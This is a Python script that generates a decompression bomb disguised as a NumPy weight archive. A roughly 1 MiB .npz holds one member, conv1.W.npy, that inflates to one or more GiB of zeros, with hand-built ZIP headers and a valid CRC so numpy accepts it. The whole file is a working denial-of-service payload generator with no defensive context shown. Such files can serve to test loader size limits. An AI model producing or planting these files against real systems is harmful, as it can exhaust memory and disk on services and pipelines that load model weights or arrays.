#!/usr/bin/env python3
"""npz_bomb.py OUT.npz [GIB]: writes a .npz of about 1 MiB whose one member, conv1.W.npy, inflates
to GIB GiB (default 1) of zeros: a float32 .npy of GIB * 2^28 elements. The deflate stream is one
block of compressed zeros repeated (each ends in a full flush, so none refers back to another), so
writing it takes no time; the archive is valid (CRC and sizes recorded) and numpy can read it."""
import struct
import sys
import zlib

out = sys.argv[1]
gib = int(sys.argv[2]) if len(sys.argv) > 2 else 1
chunk_bytes = 1 << 24
chunks = gib * (1 << 30) // chunk_bytes
header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (%d,), }" % (chunks * chunk_bytes // 4)
header += b" " * (117 - len(header)) + b"\n"  # 10 + 118 bytes: aligned to 64
npy_header = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header

def raw_deflate(data, mode):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush(mode)

zeros = bytes(chunk_bytes)
block = raw_deflate(zeros, zlib.Z_FULL_FLUSH)
stream = raw_deflate(npy_header, zlib.Z_FULL_FLUSH) + block * chunks + raw_deflate(b"", zlib.Z_FINISH)
crc = zlib.crc32(npy_header)
for _ in range(chunks):
    crc = zlib.crc32(zeros, crc)
size = len(npy_header) + chunks * chunk_bytes
assert size < 0xFFFFFFFF, "a plain (not ZIP64) archive: at most 3 GiB"
name = b"conv1.W.npy"
common = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x21, crc, len(stream), size)  # deflate, 1980-01-01
local = b"PK\x03\x04" + common + struct.pack("<HH", len(name), 0) + name
central = b"PK\x01\x02" + struct.pack("<H", 20) + common + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0) + name
eocd = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local) + len(stream), 0)
with open(out, "wb") as f:
    f.write(local + stream + central + eocd)
